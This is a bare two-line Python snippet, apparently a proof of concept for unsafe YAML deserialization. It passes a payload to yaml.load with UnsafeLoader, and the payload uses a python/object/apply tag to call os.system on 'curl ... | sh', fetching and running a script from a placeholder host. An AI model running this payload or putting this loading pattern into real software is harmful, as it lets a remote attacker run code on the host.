import yaml
yaml.load("!!python/object/apply:os.system ['curl http://203.0.113.1/x | sh']", Loader=yaml.UnsafeLoader)
